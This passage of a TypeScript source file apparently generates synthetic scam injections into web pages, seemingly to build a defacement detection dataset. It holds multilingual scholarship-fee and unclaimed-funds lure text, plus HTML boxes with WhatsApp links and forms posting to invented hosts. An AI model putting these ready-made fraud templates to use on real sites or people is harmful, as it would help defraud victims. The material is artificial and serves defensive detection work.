  de: ["Vollstipendien 2026", (c, f) => `Studieren in ${c} mit Studiengebühren, Flug und monatlichem Stipendium. Kein Sprachtest, Visum garantiert. Nur ${f} Bearbeitungsgebühr per Western Union, MoneyGram oder USDT.`, "Per WhatsApp bewerben"],
  es: ["Becas totalmente financiadas 2026", (c, f) => `Estudie en ${c} con matrícula, vuelos y estipendio mensual pagados. Sin IELTS, visa garantizada. Solo ${f} de tasa de tramitación por Western Union, MoneyGram o USDT.`, "Postular por WhatsApp"],
  nl: ["Volledig gefinancierde beurzen 2026", (c, f) => `Studeer in ${c} met collegegeld, vlucht en maandtoelage betaald. Geen IELTS nodig, visum gegarandeerd. Alleen ${f} administratiekosten via Western Union, MoneyGram of USDT.`, "Aanmelden via WhatsApp"],
  pt: ["Bolsas de estudo 100% financiadas 2026", (c, f) => `Estude no ${c} com propinas, passagens e bolsa mensal pagas. Sem IELTS, visto garantido. Apenas ${f} de taxa de inscrição por Western Union, MoneyGram ou USDT.`, "Candidatar-se pelo WhatsApp"],
  it: ["Borse di studio completamente finanziate 2026", (c, f) => `Studia in ${c} con tasse, voli e stipendio mensile pagati. Niente IELTS, visto garantito. Solo ${f} di spese di pratica via Western Union, MoneyGram o USDT.`, "Candidati su WhatsApp"]
}

// Scholarship-fee scams, recalled from memory of the US FTC's guidance on scholarship and financial-aid scams (fees to "hold" or process a scholarship), of warnings by the British Council, Chevening, DAAD and Canadian immigration authorities (about 2018–2024) about fake "fully funded scholarship, visa guaranteed" offers asking for application fees by money transfer, and of the spam posts carrying them: an offer for a popular study destination with the fee, the payment methods and an agent's WhatsApp.
const scholarshipFee = fresh13("'fully funded scholarship abroad, visa guaranteed' offer demanding an application fee by Western Union or USDT", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, scholarWords)
  const wa = intlMobile(rng)
  const c = pick(rng, ["Canada", "UK", "USA", "Germany", "Australia", "Ireland", "Italy", "Finland"])
  const site2 = chance(rng, 0.5) ? ` · <a href="https://${scamHost(rng, page, ["scholarships", "studyabroad", "fundedstudy", "grants"])}/apply">${pick(rng, ["Online form", "Formulaire", "Formular", "Formulario"])}</a>` : ""
  const inner = `<h3>🎓 ${esc(h)}</h3><p>${esc(p(c, pick(rng, ["$150", "$250", "€120", "$99", "£180"])))}</p><p><a href="${waLink(wa)}" style="background:#25d366;color:#fff;padding:6px 12px;text-decoration:none">${esc(cta)} ${esc(wa)}</a>${site2}</p>`
  return splices(insert(someSpot(rng, page), box(rng, ["scholarship", "study-abroad", "announcement"], "#283593", inner)))
})

const unclaimedWords: Record<Lang, readonly [string, (amt: string) => string, string, string, string]> = {
  en: ["Unclaimed money found in your name", (a) => `Our search of state and bank records found ${a} in unclaimed funds that may belong to you. Enter your name to see the details; a small release fee applies.`, "First and last name", "State / region", "Search now"],
  fr: ["Des fonds non réclamés à votre nom", (a) => `Notre recherche dans les registres bancaires et publics a trouvé ${a} de fonds non réclamés qui pourraient vous revenir. Saisissez votre nom ; des frais de déblocage s'appliquent.`, "Prénom et nom", "Département", "Rechercher"],
  de: ["Nicht abgeholtes Geld auf Ihren Namen", (a) => `Unsere Suche in Bank- und Behördenregistern hat ${a} an nachrichtenlosen Vermögen gefunden, die Ihnen gehören könnten. Namen eingeben; es fällt eine kleine Freigabegebühr an.`, "Vor- und Nachname", "Bundesland", "Jetzt suchen"],
  es: ["Dinero no reclamado a su nombre", (a) => `Nuestra búsqueda en registros bancarios y públicos encontró ${a} en fondos no reclamados que pueden ser suyos. Introduzca su nombre; se aplica una pequeña tasa de liberación.`, "Nombre y apellidos", "Provincia", "Buscar"],
  nl: ["Niet-opgeëist geld op uw naam", (a) => `Onze zoektocht in bank- en overheidsregisters vond ${a} aan niet-opgeëiste tegoeden die van u kunnen zijn. Vul uw naam in; er geldt een kleine vrijgavevergoeding.`, "Voor- en achternaam", "Provincie", "Nu zoeken"],
  pt: ["Dinheiro esquecido em seu nome", (a) => `Nossa busca em registros bancários e públicos encontrou ${a} em valores a receber que podem ser seus. Digite seu nome; há uma pequena taxa de liberação.`, "Nome completo", "Estado", "Consultar"],
  it: ["Somme non reclamate a tuo nome", (a) => `La nostra ricerca nei registri bancari e pubblici ha trovato ${a} di fondi non reclamati che potrebbero spettarti. Inserisci il tuo nome; è prevista una piccola commissione di sblocco.`, "Nome e cognome", "Regione", "Cerca ora"]
}

// Unclaimed-property finder scams, recalled from memory of the National Association of Unclaimed Property Administrators' and state treasurers' warnings (about 2015–2024) that searching official unclaimed-property databases is free and that sites charging "release" or "finder" fees are scams, and of the Brazilian central bank's warnings (2022) on fake "valores a receber" sites: a banner with an amount found, a name search form posting to another host and a fee mentioned.
const unclaimedFunds = fresh13("'unclaimed money found in your name' search banner with a release fee, posting to another host", (page, rng) => {
  const [h, p, nm, reg, cta] = siteOr(rng, page, unclaimedWords)
  const host = scamHost(rng, page, ["unclaimed", "missingmoney", "fundsfinder", "valores", "claimcheck"])
  const amt = page.site.locale.money(between(rng, 300, 4800) + pick(rng, [0.13, 0.5, 0.87, 0]))
  const inner = `<h3>💰 ${esc(h)}</h3><p>${esc(p(amt))}</p><form action="https://${host}/${pick(rng, ["search", "lookup", "claim"])}" method="get"><input name="name" placeholder="${esc(nm)}"> <input name="region" placeholder="${esc(reg)}"> <button type="submit" style="background:#2e7d32;color:#fff;border:0;padding:6px 14px">${esc(cta)}</button></form><p style="font-size:10px;color:#777">${pick(rng, ["Not affiliated with any government agency.", "Release fee: $29.95", "Service fee applies.", "Frais de service : 19,90 €"])}</p>`
  return splices(insert(someSpot(rng, page), box(rng, ["unclaimed", "funds-banner", "sponsored"], "#2e7d32", inner)))
})

/** Every fresh13 defacement class, in a fixed order. */
export const fresh13Defacements: ReadonlyArray<ChangeClass> = [
  invisibleLoader, hostKeyedLoader, protocolHandler, lanProbe, novncSession, smsPremium, fakeWalletButtons, pasteDeadDrop,
  crewRecruitment, accessForSale, leakUltimatum, rootTerminal, carWrapCheque, reshippingJob, dvLotteryFee, sugarAllowance,
  alternativeInvestment, medicareGenetic, flightCompensation, pointsExpiry, esimSwap, carWarranty, policeImpersonation, blikCode,
  boletoSecondCopy, cpfTraining, advanceFeeLoan, bitcoinAtm, scholarshipFee, unclaimedFunds
]
